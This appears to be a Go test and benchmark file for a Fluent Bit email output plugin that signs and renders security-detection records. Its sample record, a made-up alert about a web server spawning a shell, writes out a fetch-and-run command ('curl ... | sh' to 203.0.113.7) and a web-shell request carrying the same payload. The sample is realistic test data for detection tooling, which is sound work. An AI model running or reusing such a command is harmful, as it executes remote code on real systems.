package output

import (
	"encoding/json"
	"fmt"
	"math"
	"syscall"
	"testing"
	"time"
)

// benchRecord is a detection-like record of about 2 KB of JSON, with values as Fluent Bit
// decodes them ([]byte strings, map[any]any maps, int64/uint64 numbers).
func benchRecord() Record {
	return Record{
		Tag:  "lc.detections",
		Time: time.Date(2026, 11, 27, 10, 0, 0, 123456789, time.UTC),
		Fields: map[string]any{
			"cat":       []byte("Suspicious Shell Spawned By Web Server"),
			"source":    []byte("dr-general"),
			"detect_id": []byte("b7f1c2d4-9a3e-4f60-8d2b-1e5a7c9f0b31"),
			"link":      []byte("https://app.limacharlie.io/orgs/8cbe27f4-bfa1-4afb-ba19-138cd51389cd/sensors/bb4b30af-ff11-4ff4-836f-f014ada33345/timeline?time=1795773600&selected=b7f1c2d4"),
			"priority":  int64(4),
			"detect_mtd": map[any]any{
				"description":    []byte("A shell was started by a process that serves web traffic; this is a common sign of remote code execution."),
				"falsepositives": []any{[]byte("Administrative scripts run from CGI"), []byte("Health checks")},
				"level":          []byte("high"),
				"tags":           []any{[]byte("attack.execution"), []byte("attack.t1059.004"), []byte("attack.persistence")},
			},
			"detect": map[any]any{
				"event": map[any]any{
					"FILE_PATH":    []byte("/bin/sh"),
					"COMMAND_LINE": []byte("/bin/sh -c curl -s http://203.0.113.7/x.sh | sh; echo done > /tmp/.marker"),
					"HASH":         []byte("2f1c4ab6e3a9d6b1f0e7c8d5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5"),
					"PROCESS_ID":   int64(31337),
					"USER_NAME":    []byte("www-data"),
					"CWD":          []byte("/var/www/html/uploads"),
					"ENVIRONMENT": []any{[]byte("PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"),
						[]byte("HOME=/var/www"), []byte("LANG=C.UTF-8"), []byte("SERVER_SOFTWARE=nginx/1.24.0"),
						[]byte("REQUEST_URI=/uploads/shell.php?cmd=curl%20-s%20http%3A%2F%2F203.0.113.7%2Fx.sh%20%7C%20sh"),
						[]byte("REMOTE_ADDR=203.0.113.7"), []byte("HTTP_USER_AGENT=Mozilla/5.0 (X11; Linux x86_64) curl/8.5.0")},
					"MEMORY_USAGE": int64(4194304),
					"THREADS":      int64(1),
					"PARENT": map[any]any{
						"FILE_PATH":    []byte("/usr/sbin/nginx"),
						"COMMAND_LINE": []byte("nginx: worker process"),
						"PROCESS_ID":   int64(1042),
						"HASH":         []byte("9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d"),
					},
				},
				"routing": map[any]any{
					"hostname":   []byte("web-1.prod.corp.example"),
					"sid":        []byte("bb4b30af-ff11-4ff4-836f-f014ada33345"),
					"oid":        []byte("8cbe27f4-bfa1-4afb-ba19-138cd51389cd"),
					"event_type": []byte("NEW_PROCESS"),
					"event_time": uint64(1795773600123),
					"ext_ip":     []byte("198.51.100.23"),
					"int_ip":     []byte("10.0.4.17"),
					"plat":       int64(536870912),
					"arch":       int64(2),
					"tags":       []any{[]byte("prod"), []byte("web"), []byte("pci")},
					"this":       []byte("5a1f2e3d4c5b6a79"),
					"parent":     []byte("0f1e2d3c4b5a6978"),
				},
			},
			"namespace": []byte("general"),
			"rule_tags": []any{[]byte("web"), []byte("shell"), []byte("rce")},
			"score":     0.87,
		},
	}
}

// TestBenchRecordSize keeps the benchmark record near 2 KB of JSON and 40 fields, and its
// readable email within 10 KB (Gmail clips a message past 102 KB: size is readability too).
func TestBenchRecordSize(t *testing.T) {
	p, err := Payload(benchRecord(), "date")
	if err != nil {
		t.Fatal(err)
	}
	if len(p) < 1800 || len(p) > 2300 || !json.Valid(p) {
		t.Errorf("bench payload is %d bytes (valid JSON: %v), want about 2048", len(p), json.Valid(p))
	}
	if n := len(wantRows(t, p)); n < 35 || n > 45 {
		t.Errorf("bench record has %d fields, want about 40", n)
	}
	e := mustRender(t, mustRenderer(t, testConfig(true)), benchRecord())
	if len(e.Data) > 10<<10 {
		t.Errorf("readable email of the bench record is %d bytes, want at most 10 KB", len(e.Data))
	}
}

// BenchmarkNormalize measures record -> sorted JSON payload.
func BenchmarkNormalize(b *testing.B) {
	rec := benchRecord()
	var st state
	b.ReportAllocs()
	for b.Loop() {
		if err := st.encodePayload(rec, "date"); err != nil {
			b.Fatal(err)
		}
	}
	b.SetBytes(int64(len(st.payload)))
}

// BenchmarkSign measures the HMAC-SHA256 signature of a 2 KB payload (hex included).
func BenchmarkSign(b *testing.B) {
	p, _ := Payload(benchRecord(), "date")
	secret := []byte(testSecret)
	b.ReportAllocs()
	b.SetBytes(int64(len(p)))
	for b.Loop() {
		_ = Sign(p, secret)
	}
}

// benchRender measures Render of the benchmark record. Besides ns/op (wall time, which other
// work on a shared machine inflates) it reports cpu-ns/op: the CPU time the process spent per
// render, garbage collection included.
func benchRender(b *testing.B, readable bool) {
	r := mustRenderer(b, testConfig(readable))
	rec := benchRecord()
	b.ReportAllocs()
	var n, ops int
	cpu0 := cpuTime()
	for b.Loop() {
		e, err := r.Render(rec)
		if err != nil {
			b.Fatal(err)
		}
		n = len(e.Data)
		ops++
	}
	b.ReportMetric(float64(cpuTime()-cpu0)/float64(ops), "cpu-ns/op")
	b.ReportMetric(float64(n), "email-bytes")
}

// cpuTime returns the CPU time the process has used, user and system, in nanoseconds.
func cpuTime() int64 {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return ru.Utime.Nano() + ru.Stime.Nano()
}

// BenchmarkRenderMachine measures a whole machine-format email.
func BenchmarkRenderMachine(b *testing.B) { benchRender(b, false) }

// BenchmarkRenderReadable measures a whole readable-format (HTML) email.
func BenchmarkRenderReadable(b *testing.B) { benchRender(b, true) }

// BenchmarkRecordToBytes is issue 7's target: record -> signed bytes, machine format, 2 KB,
// run from several goroutines as Workers would.
func BenchmarkRecordToBytes(b *testing.B) {
	r := mustRenderer(b, testConfig(false))
	rec := benchRecord()
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			if _, err := r.Render(rec); err != nil {
				b.Error(err)
				return
			}
		}
	})
}

// BenchmarkQP measures the quoted-printable encoding of the benchmark record's JSON payload and
// HTML part, as Render writes them.
func BenchmarkQP(b *testing.B) {
	r := mustRenderer(b, testConfig(true))
	rec := benchRecord()
	st := r.pool.Get().(*state)
	if err := st.encodePayload(rec, "date"); err != nil {
		b.Fatal(err)
	}
	r.renderHTML(st, rec, []byte("subject"))
	payload, html := st.payload, st.html
	b.SetBytes(int64(len(payload) + len(html)))
	b.ReportAllocs()
	var out []byte
	for b.Loop() {
		out = appendQP(out[:0], payload, false)
		out = appendQP(out, html, true)
	}
}

// BenchmarkReadableHTML measures the HTML part alone: writing it, then its quoted-printable
// encoding (what the readable format adds to the machine format, besides the MIME lines).
func BenchmarkReadableHTML(b *testing.B) {
	r := mustRenderer(b, testConfig(true))
	rec := benchRecord()
	st := r.pool.Get().(*state)
	subject := []byte("LC Detection - Suspicious Shell Spawned By Web Server on web-1.prod.corp.example")
	b.ReportAllocs()
	var out []byte
	for b.Loop() {
		r.renderHTML(st, rec, subject)
		out = appendQP(out[:0], st.html, true)
	}
	b.ReportMetric(float64(len(st.html)), "html-bytes")
}

// benchMembers renders n variants of the benchmark record (three hosts, a process each) and
// returns them as digest members.
func benchMembers(b *testing.B, r *Renderer, n int) []DigestMember {
	hosts := []string{"web-1.prod.corp.example", "web-2.prod.corp.example", "db-1.prod.corp.example"}
	members := make([]DigestMember, n)
	for i := range members {
		rec := benchRecord()
		rec.Time = rec.Time.Add(time.Duration(i) * time.Second)
		detect := rec.Fields["detect"].(map[any]any)
		detect["routing"].(map[any]any)["hostname"] = []byte(hosts[i%len(hosts)])
		detect["event"].(map[any]any)["PROCESS_ID"] = int64(31337 + i)
		e, err := r.Render(rec)
		if err != nil {
			b.Fatal(err)
		}
		members[i] = DigestMember{MessageID: e.MessageID, Tag: rec.Tag, Time: rec.Time, Payload: e.Payload}
	}
	return members
}

// BenchmarkRenderDigest measures RenderDigest of 1, 10, 100 and 1,000 benchmark records in
// each format, per record: wall ns/record, cpu-ns/record (the process's CPU time, garbage
// collection included) and email bytes/record, to compare with BenchmarkRenderMachine and
// BenchmarkRenderReadable (one email per record). The records' own Render, which the pipeline
// runs anyway to get each payload and Message-ID, is not included.
func BenchmarkRenderDigest(b *testing.B) {
	for _, readable := range []bool{false, true} {
		format := "machine"
		if readable {
			format = "readable"
		}
		for _, n := range []int{1, 10, 100, 1000} {
			b.Run(fmt.Sprintf("%s/members=%d", format, n), func(b *testing.B) {
				r := mustRenderer(b, testConfig(readable))
				d := Digest{Group: []GroupValue{{Key: "$cat", Value: "Suspicious Shell Spawned By Web Server"}},
					Members: benchMembers(b, r, n)}
				b.ReportAllocs()
				var size, ops int
				start, cpu0 := time.Now(), cpuTime()
				for b.Loop() {
					e, err := r.RenderDigest(d)
					if err != nil {
						b.Fatal(err)
					}
					size = len(e.Data)
					ops++
				}
				records := float64(ops * n)
				b.ReportMetric(float64(time.Since(start).Nanoseconds())/records, "ns/record")
				b.ReportMetric(float64(cpuTime()-cpu0)/records, "cpu-ns/record")
				b.ReportMetric(float64(size)/float64(n), "bytes/record")
			})
		}
	}
}

// asDecoded returns v with the types chunk.Decoder gives: map[string]any for maps, string for
// []byte, int64 for the integers that fit.
func asDecoded(v any) any {
	switch x := v.(type) {
	case []byte:
		return string(x)
	case uint64:
		if x <= math.MaxInt64 {
			return int64(x)
		}
	case []any:
		out := make([]any, len(x))
		for i, el := range x {
			out[i] = asDecoded(el)
		}
		return out
	case map[any]any:
		out := make(map[string]any, len(x))
		for k, el := range x {
			out[k.(string)] = asDecoded(el)
		}
		return out
	case map[string]any:
		out := make(map[string]any, len(x))
		for k, el := range x {
			out[k] = asDecoded(el)
		}
		return out
	}
	return v
}

// BenchmarkPayloadDecoded measures the JSON payload of the benchmark record with values as
// chunk.Decoder gives them (the real host's case), with cpu-ns/op (the process's CPU time,
// garbage collection included) besides wall ns/op.
func BenchmarkPayloadDecoded(b *testing.B) {
	rec := benchRecord()
	rec.Fields = asDecoded(rec.Fields).(map[string]any)
	var st state
	b.ReportAllocs()
	cpu0 := cpuTime()
	for b.Loop() {
		if err := st.encodePayload(rec, "date"); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(cpuTime()-cpu0)/float64(b.N), "cpu-ns/op")
	b.SetBytes(int64(len(st.payload)))
}
